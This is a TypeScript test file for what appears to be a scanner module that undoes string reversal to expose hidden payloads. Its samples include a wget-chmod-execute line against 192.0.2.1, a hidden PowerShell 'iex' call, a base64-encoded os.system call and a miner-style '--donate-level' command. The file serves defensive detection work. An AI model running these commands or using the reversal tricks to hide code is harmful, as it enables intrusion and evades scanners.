import { describe, expect, it } from 'vitest';
import { openWindow } from '../../../tests/open-window.ts';
import { command, config } from './encoding.fixture.ts';
import { fixture } from './reversed.fixture.ts';
import { reversed } from './reversed.ts';

const turn = (text: string): string => [...text].reverse().join('');
const opened = (input: string | Uint8Array): string[] =>
  openWindow(reversed, input).children.map(({ bytes }) => Buffer.from(bytes).toString());

describe('reversed', () => {
  it('opens its fixture and leaves the other alone', () => {
    expect(opened(fixture.opens)).toEqual([command]);
    expect(opened(fixture.leaves)).toEqual([]);
  });

  it('says where the string stands', () => {
    const [child] = openWindow(reversed, fixture.opens).children;
    const offset = fixture.opens.indexOf('"') + 1;
    expect(child).toMatchObject({
      name: `reversed@0x${offset.toString(16)}`,
      from: { offset, length: command.length },
    });
  });

  it('turns a line round that holds no string', () => {
    expect(opened(`first line\n${turn(command)}\nlast line\n`)).toEqual([command]);
  });

  it('turns each line round, where several follow one another', () => {
    const lines = [`${command} --donate-level 1`, '# another line', `${command} &`];
    expect(opened(lines.map(turn).join('\n'))).toEqual([lines.join('\n')]);
  });

  it('turns a text of several lines round as it was turned: at once, or line by line', () => {
    const backwards = turn(config);
    const byLine = config.split('\n').map(turn).join('\n');
    for (const text of [backwards, byLine]) {
      expect(opened(text)).toEqual([config]);
      expect(opened(`first line\n\n${text}\n\nlast line\n`)).toEqual([config]);
      expect(opened(`echo '${text}' | rev > config.json\n`)).toEqual([config]);
      expect(opened(`c = """${text}"""[::-1]\n`)).toEqual([config]);
    }
    const script = `#!/bin/sh\n${command}\n`;
    expect(opened(`exec('${turn(script)}'[::-1])`)).toEqual([script]);
  });

  it('turns a string round near a call, where it makes sense only so', () => {
    const line = 'wget http://192.0.2.1/a; chmod +x a; ./a &';
    expect(opened(`eval "$(echo '${turn(line)}' | rev)"`)).toEqual([line]);
    expect(opened(`exec('${turn(line)}'[::-1])`)).toEqual([line]);
    expect(opened(`open("${line}") # [::-1]`)).toEqual([]);
  });

  it('turns base64 round near a call, where it decodes only so', () => {
    const base64 = Buffer.from('import os; os.system("id")').toString('base64');
    expect(opened(`exec(b64decode("${turn(base64)}"[::-1]))`)).toEqual([base64]);
    expect(opened(`exec(b64decode("${base64}")); x = y[::-1]`)).toEqual([]);
  });

  it('reads UTF-16LE', () => {
    const script = Buffer.from(`$s = "${turn('powershell -nop -c iex $x')}"; [Array]::Reverse($s)`, 'utf16le');
    expect(opened(script)).toEqual(['powershell -nop -c iex $x']);
  });

  it('keeps within the limit on bytes, and says so', () => {
    const { children, misses } = openWindow(reversed, fixture.opens, { limits: { unpackedBytes: 50 } });
    expect(children).toEqual([]);
    expect(misses[0]).toMatchObject({ gap: { code: 'limit-bytes' } });
  });
});
